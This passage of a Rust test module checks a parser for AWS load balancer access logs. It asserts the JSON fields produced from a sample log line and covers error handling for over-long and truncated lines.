        crate::formats::parse(crate::formats::Format::Elb, &mut reader, &limits, &mut |ev| {
            let mut out = Vec::new();
            writer.write(records.len() as u64, &ev, &mut out);
            records.push(serde_json::from_slice::<serde_json::Value>(&out).expect("valid JSON"));
            Ok(())
        })
        .unwrap();
        let r = &records[0];
        assert_eq!(r["@timestamp"], "2018-07-02T22:23:00.186641Z");
        assert_eq!(r["event"]["dataset"], "aws.elb");
        assert_eq!(r["event"]["category"], serde_json::json!(["web"]));
        assert_eq!(
            r["aws"]["elb"]["action_executed"],
            serde_json::json!(["forward", "redirect"])
        );
        assert_eq!(r["aws"]["elb"]["backend"]["port"], 80);
        assert_eq!(r["aws"]["elb"]["backend_processing_time"]["sec"], 0.001);
        assert_eq!(r["http"]["response"]["status_code"], 200);
        assert_eq!(r["source"]["port"], 2817);
    }

    #[test]
    fn line_over_the_limit_is_an_error_for_the_object() {
        let r = run(Format::Elb, ALB, 100);
        assert!(matches!(
            r,
            Err(crate::formats::FormatError::LineTooLong {
                line: 1,
                limit: 100
            })
        ));
    }

    #[test]
    fn truncated_last_line_without_newline_still_parses() {
        let evs = events(b"http 2018-07-02T22:23:00.186641Z app/x 1.2.3.4:5 - 0 0 0 200 - 1 1 \"GET http://h/ HTTP/1.1\" \"ua\" - - - \"Root=1\" \"example.com\"");
        assert_eq!(evs.len(), 1);
        assert!(evs[0].error.is_none());
        check(&evs[0], &[("destination.domain", "example.com")]);
        absent(&evs[0], &["aws.elb.chosen_cert.arn", "event.start"]);
    }
}
